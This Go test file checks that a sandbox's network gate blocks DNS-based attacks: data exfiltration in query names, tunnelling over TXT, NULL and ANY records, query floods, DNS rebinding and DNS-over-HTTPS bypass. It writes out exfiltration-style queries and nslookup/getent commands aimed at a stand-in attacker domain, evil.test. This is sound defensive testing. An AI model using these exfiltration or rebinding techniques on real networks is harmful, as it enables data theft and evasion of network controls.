package e2e

// DNS (threat model 14-17): subtests of TestGate (gate_test.go has the sandbox, the servers and
// the leak check, which also reads the upstream DNS server's query log after every subtest).

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// 14. Data encoded in query names for a domain the attacker controls: denied names never
// reach an upstream resolver, whatever the type or transport.
func (g *gateEnv) attack14(t *testing.T) {
	m := g.mark(t)
	secret := "mzxw6ytboi.nbswy3dpeb3w64tmmq.c2vjcmv0lxrva2vu" // base32 chunks, as exfiltration tools send them
	var calls []call
	for _, typ := range []string{"A", "AAAA", "TXT", "MX", "CNAME"} {
		calls = append(calls, pr("dns", gatewayIP+":53", secret+".x1."+typ+".evil.test", typ))
	}
	calls = append(calls, pr("dns", "-tcp", gatewayIP+":53", secret+".x2.evil.test", "A"))
	s := g.script()
	i := s.probes(calls...)
	tools := s.shell(`busybox nslookup ` + secret + `.x3.evil.test ` + gatewayIP + `; getent hosts ` + secret + `.x4.evil.test`)
	o := s.run(t)
	p := o.probes(t, i)
	for _, r := range p {
		if !r.OK || r.took() > promptly {
			t.Errorf("a denied name must get a prompt answer from the gate: %v", r)
		}
	}
	if a := answerA(p[0].Data); !inPool(a) {
		t.Errorf("A for a denied name: want a pool address, got %v", p[0])
	}
	if a := answerA(p[5].Data); !inPool(a) {
		t.Errorf("A over TCP for a denied name: want a pool address, got %v", p[5])
	}
	for _, r := range p[1:5] {
		if !strings.HasPrefix(r.Data, "NOERROR n=0") {
			t.Errorf("non-A question for a denied name: want an empty answer, got %v", r)
		}
	}
	if out := o.text(tools); strings.Count(out, "198.1") < 2 {
		t.Errorf("nslookup and getent of a denied name: want pool addresses, got:\n%s", out)
	}
	if k := g.net.Asked("evil.test"); k != 0 {
		t.Errorf("LEAK: %d questions under evil.test reached the upstream resolver", k)
	}
	g.denied(t, m, match{Proto: "dns", Name: secret + ".x1.a.evil.test"})
	g.denied(t, m, match{Proto: "dns", Name: secret + ".x1.txt.evil.test"})
}

// 15. TXT/NULL/ANY tunnelling, very long names, many labels, and a query flood: no type but A
// leaves the gate, even for allowed names, and the gate keeps answering.
func (g *gateEnv) attack15(t *testing.T) {
	types := []string{"TXT", "NULL", "ANY", "MX", "SRV", "HTTPS", "CNAME", "NS", "SOA", "PTR"}
	var calls []call
	for _, typ := range types {
		calls = append(calls, pr("dns", gatewayIP+":53", "allowed.test", typ))
	}
	for _, typ := range []string{"TXT", "NULL", "ANY"} {
		calls = append(calls, pr("dns", gatewayIP+":53", "t.evil.test", typ))
	}
	long := strings.Repeat(strings.Repeat("a", 63)+".", 3) + strings.Repeat("b", 51) + ".evil.test" // 253 bytes
	many := strings.Repeat("c.", 120) + "evil.test"                                                 // 122 labels
	if len(long) != 253 {
		t.Fatalf("test bug: the long name is %d bytes", len(long))
	}
	calls = append(calls,
		pr("dns", gatewayIP+":53", long, "A"),
		pr("dns", gatewayIP+":53", many, "A"),
		pr("dns", gatewayIP+":53", strings.Repeat(strings.Repeat("d", 60)+".", 3)+"x.wild.test", "TXT"),
	)
	// A flood of random names: answered from the pool, none upstream, and the gate still
	// answers an allowed name at once afterwards.
	const flood = 1000
	s := g.script()
	qi := s.parallel(calls...)
	fi := s.probes(
		pr("dnsflood", "-timeout", "30s", gatewayIP+":53", "flood.evil.test", fmt.Sprint(flood)),
		pr("dns", gatewayIP+":53", "allowed.test", "A"),
	)
	o := s.run(t)
	p := o.probes(t, qi)
	for i, typ := range types {
		if r := p[i]; !r.OK || !strings.Contains(r.Data, " n=0") || r.took() > promptly {
			t.Errorf("%s for allowed.test: want a prompt empty answer (the upstream has a TXT record, which must not be fetched), got %v", typ, r)
		}
	}
	for _, r := range p[len(types) : len(types)+3] {
		if !r.OK || !strings.Contains(r.Data, " n=0") {
			t.Errorf("tunnel type for a denied name: want an empty answer, got %v", r)
		}
	}
	for _, r := range p[len(types)+3:] {
		if !r.OK || r.took() > promptly {
			t.Errorf("long name / many labels: want a prompt answer from the gate, got %v", r)
		}
	}
	f := o.probes(t, fi)
	var sent, answered, pool, other int
	fmt.Sscanf(f[0].Data, "sent=%d answered=%d pool=%d other=%d", &sent, &answered, &pool, &other)
	t.Logf("flood: %s in %v", f[0].Data, f[0].took().Round(time.Millisecond))
	if answered < flood*9/10 || pool != answered || other != 0 {
		t.Errorf("flood of %d denied names: want (nearly) all answered, all from the pool: %v", flood, f[0])
	}
	if !f[1].OK || answerA(f[1].Data) != allowedIP || f[1].took() > promptly {
		t.Errorf("after the flood, allowed.test: want %s at once, got %v", allowedIP, f[1])
	}
}

// 16. Rebinding: an allowed name resolves public, later private. The gate checks what it
// dials, at dial time, so the second connection is refused, and the private server hears
// nothing.
func (g *gateEnv) attack16(t *testing.T) {
	defer g.net.SetA("rebind.test", rebindIP)
	s := g.script()
	ci := s.curl("http://rebind.test/")
	pi := s.probes(pr("tcp", "-read", "-timeout", "1s", "rebind.test:2222"))
	o := s.run(t)
	curlReached(t, o.curl(t, ci), "inet http "+rebindIP+":80 rebind.test/")
	if r := o.probes(t, pi)[0]; !r.OK || !strings.HasPrefix(r.Data, rebindBanner) {
		t.Errorf("rebind.test:2222 before rebinding: want its banner, got %v", r)
	}
	g.net.SetA("rebind.test", lanIP)
	// The gate caches an answer for at least 5 s (its minimum TTL); the upstream's is 1 s.
	time.Sleep(5500 * time.Millisecond)
	m := g.mark(t)
	s = g.script()
	c1 := s.curl("http://rebind.test/")
	c2 := s.curl("--resolve", "rebind.test:80:"+rebindIP, "http://rebind.test/")
	pi = s.probes(
		pr("dns", gatewayIP+":53", "rebind.test", "A"),
		pr("tcp", "-read", "-timeout", "1s", "rebind.test:2222"),
		pr("tcp", "-read", "-timeout", "1s", lanIP+":2222"),
	)
	o = s.run(t)
	curlDenied(t, o.curl(t, c1))
	curlDenied(t, o.curl(t, c2))
	p := o.probes(t, pi)
	refusedPromptly(t, "rebind.test:2222 after rebinding to "+lanIP, p[1])
	refusedPromptly(t, lanIP+":2222", p[2])
	g.denied(t, m, match{Proto: "tcp", Name: "rebind.test", Dst: rebindIP + ":80"})
	g.denied(t, m, match{Proto: "tcp", Dst: lanIP + ":2222"})
	g.noAllow(t, m, match{Proto: "tcp", Name: "rebind.test"})
}

// 17. DNS-over-HTTPS to an allowed host: the guest may ask it (the host is allowed), but what
// it answers binds nothing at the gate: a connection to that address is decided by its SNI,
// Host or (for other ports) the gate's own bindings.
func (g *gateEnv) attack17(t *testing.T) {
	m := g.mark(t)
	dohHits := g.srv["doh:443"].Hits()
	doh := []string{"--doh-url", "https://doh.test/dns-query", "--doh-insecure"}
	c := g.curls(t,
		append(append([]string{}, doh...), "http://evil.test/"),
		append(append([]string{}, doh...), "--cacert", g.ca, "https://evil.test/"),
		append(append([]string{}, doh...), "http://evil.test:2222/"),
	)
	for _, r := range c {
		curlDenied(t, r)
	}
	if g.srv["doh:443"].Hits() == dohHits {
		t.Errorf("the DoH server was never asked: curl did not use it, so this proves nothing")
	}
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":80", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
}
